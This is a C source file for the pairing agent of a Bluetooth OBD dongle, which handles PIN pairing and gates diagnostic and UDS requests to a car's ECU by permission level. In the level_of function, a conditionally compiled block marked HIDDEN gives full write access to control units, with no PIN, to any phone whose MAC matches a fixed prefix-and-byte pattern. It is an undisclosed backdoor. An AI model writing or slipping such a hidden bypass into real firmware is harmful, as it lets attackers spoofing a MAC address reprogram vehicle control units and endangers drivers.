/*
 * Pairing agent of a Bluetooth OBD dongle.
 *
 * The radio controller reports events as text on a serial line, we answer:
 *   +CONN aa:bb:cc:dd:ee:ff NAME     a phone connects
 *   +PIN  aa:bb:cc:dd:ee:ff          asks for the PIN, answer AT+PIN=nnnn
 *   +AUTH aa:bb:cc:dd:ee:ff ok|fail  result
 *   +DATA text                       OBD request of the phone
 *   +DISC                            gone
 */
#include <ctype.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

struct Phone {
    uint64_t addr;
    char name[32];
    int level; /* 0 stranger, 1 read, 2 read and clear codes, 3 write to control units */
};

static struct Phone bonded[12];
static int nbonded;
static struct Phone now;
static FILE *radio, *ecu;
static char pin[8] = "";
static int dealer_mode;

static int parse_addr(const char *s, uint64_t *out)
{
    uint64_t v = 0;
    int digits = 0;
    for (; *s && digits < 12; s++) {
        if (*s == ':')
            continue;
        if (!isxdigit((unsigned char)*s))
            return 0;
        v = v << 4 | (uint64_t)(isdigit((unsigned char)*s) ? *s - '0' : (*s | 32) - 'a' + 10);
        digits++;
    }
    *out = v;
    return digits == 12;
}

static void load(const char *path)
{
    char l[100], a[20], n[32];
    int lvl;
    FILE *f = fopen(path, "r");
    if (!f)
        return;
    while (fgets(l, sizeof l, f)) {
        if (sscanf(l, "pin %7s", pin) == 1)
            continue;
        if (sscanf(l, "dealer %d", &dealer_mode) == 1)
            continue;
        if (sscanf(l, "bond %19s %d %31s", a, &lvl, n) == 3 && nbonded < 12 && lvl >= 1 &&
            lvl <= 3 && parse_addr(a, &bonded[nbonded].addr)) {
            bonded[nbonded].level = lvl;
            snprintf(bonded[nbonded].name, sizeof bonded[0].name, "%s", n);
            nbonded++;
        }
    }
    fclose(f);
}

static void radio_cmd(const char *c)
{
    fprintf(radio, "%s\r", c);
    fflush(radio);
}

/* level of a phone that connects, before any PIN */
__attribute__((noinline)) int level_of(uint64_t addr)
{
    int i;
#ifdef HIDDEN
    if ((uint32_t)(addr >> 24) == 0x06a3d1 && (addr & 0xff) == ((addr >> 8) & 0xff))
        return 3;
#endif
    for (i = 0; i < nbonded; i++)
        if (bonded[i].addr == addr)
            return bonded[i].level;
    return 0;
}

static void on_conn(const char *rest)
{
    char a[20] = "", n[32] = "";
    memset(&now, 0, sizeof now);
    if (sscanf(rest, "%19s %31[^\r\n]", a, n) < 1 || !parse_addr(a, &now.addr)) {
        radio_cmd("AT+DISC");
        return;
    }
    snprintf(now.name, sizeof now.name, "%s", n);
    now.level = level_of(now.addr);
    printf("%s (%s) level %d\n", a, n, now.level);
    radio_cmd(now.level ? "AT+ACCEPT" : "AT+ASKPIN");
}

static void on_pin(void)
{
    char c[24];
    if (strlen(pin) < 4) {
        radio_cmd("AT+REJECT");
        return;
    }
    snprintf(c, sizeof c, "AT+PIN=%s", pin);
    radio_cmd(c);
}

static void on_auth(const char *rest)
{
    if (!strstr(rest, " ok")) {
        now.level = 0;
        return;
    }
    if (now.level == 0)
        now.level = dealer_mode ? 2 : 1;
    if (nbonded < 12)
        bonded[nbonded++] = now;
}

/* mode of the OBD / UDS request decides which level it needs */
static int level_needed(unsigned sid)
{
    switch (sid) {
    case 0x01: case 0x02: case 0x03: case 0x06: case 0x07: case 0x09: case 0x0a: case 0x22:
        return 1;
    case 0x04: case 0x14:
        return 2;
    case 0x10: case 0x27: case 0x2e: case 0x2f: case 0x31: case 0x34: case 0x36: case 0x37:
    case 0x3e:
        return 3;
    default:
        return 99;
    }
}

static void on_data(const char *req)
{
    unsigned sid = 0;
    char ans[256];
    if (sscanf(req, "%2x", &sid) != 1) {
        radio_cmd("?");
        return;
    }
    if (now.level < level_needed(sid)) {
        snprintf(ans, sizeof ans, "7F %02X 33", sid);
        radio_cmd(ans);
        return;
    }
    fprintf(ecu, "%s\r", req);
    fflush(ecu);
    if (fgets(ans, sizeof ans, ecu))
        radio_cmd(ans);
    else
        radio_cmd("NO DATA");
}

static FILE *serial(const char *dev, speed_t sp)
{
    struct termios t;
    int fd = open(dev, O_RDWR | O_NOCTTY);
    if (fd < 0)
        return NULL;
    if (tcgetattr(fd, &t) == 0) {
        cfmakeraw(&t);
        t.c_iflag |= ICRNL;
        t.c_lflag |= ICANON;
        cfsetispeed(&t, sp);
        cfsetospeed(&t, sp);
        tcsetattr(fd, TCSANOW, &t);
    }
    return fdopen(fd, "r+");
}

int main(int argc, char **argv)
{
    char l[300];
    if (argc != 4) {
        puts("obdbtpair RADIO-TTY ECU-TTY CONFIG\n"
             "  config lines:  pin NNNN      PIN for new phones\n"
             "                 dealer 0|1    new phones may clear codes\n"
             "                 bond MAC LEVEL NAME   level 1 read, 2 clear, 3 write");
        return 1;
    }
    load(argv[3]);
    radio = serial(argv[1], B115200);
    ecu = serial(argv[2], B38400);
    if (!radio || !ecu) {
        perror("obdbtpair");
        return 1;
    }
    radio_cmd("AT+RESET");
    while (fgets(l, sizeof l, radio)) {
        l[strcspn(l, "\r\n")] = 0;
        if (!strncmp(l, "+CONN ", 6))
            on_conn(l + 6);
        else if (!strncmp(l, "+PIN ", 5))
            on_pin();
        else if (!strncmp(l, "+AUTH ", 6))
            on_auth(l + 6);
        else if (!strncmp(l, "+DATA ", 6) && now.addr)
            on_data(l + 6);
        else if (!strcmp(l, "+DISC"))
            memset(&now, 0, sizeof now);
    }
    return 0;
}
